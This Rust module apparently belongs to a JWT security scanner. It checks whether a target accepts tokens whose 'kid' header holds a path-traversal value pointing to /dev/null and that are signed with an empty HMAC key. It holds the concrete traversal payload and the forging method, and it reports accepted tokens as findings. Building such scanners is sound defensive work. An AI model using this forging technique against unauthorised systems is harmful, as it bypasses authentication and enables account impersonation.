//! `kid` path traversal to an empty file, signed with an empty HMAC key.

use crate::context::{Ctx, State, diff_note, differential, random_payload};
use crate::rules::KID_INJECTION;
use jwtward_jose::{Alg, Jws, Key};
use serde_json::Value;

fn hmac_alg(ctx: &Ctx) -> Alg {
    match ctx.token.as_ref().and_then(|t| t.alg()) {
        Some(a) if a.is_hmac() => a,
        _ => Alg::HS256,
    }
}

pub async fn run(ctx: &Ctx, st: &State) {
    let Some(jws) = ctx.jws() else { return };
    let mut kids = vec!["../../../../../../../../../../dev/null"];
    if st.rep {
        kids.push("/dev/null");
    }
    let alg = hmac_alg(ctx);
    let empty = Key::Hmac(Vec::new());
    for k in kids {
        let make = |base: &Jws| {
            base.with_header_member("kid", Some(Value::String(k.to_string())))
                .signed(alg, &empty)
                .ok()
                .map(|j| j.to_compact())
        };
        let Some(token) = make(jws) else { return };
        let Some((v, req, resp)) = ctx.attack(st, &token, "kid").await else {
            return;
        };
        if v.accepted() {
            let d = differential(ctx, st, make(&random_payload(ctx, jws))).await;
            ctx.report(
                st,
                &KID_INJECTION,
                format!(
                    "accepts a token with kid `{k}` signed ({alg}) with an empty key{}",
                    diff_note(d.as_ref(), "sub")
                ),
                &req,
                &resp,
            );
            return;
        }
    }
}
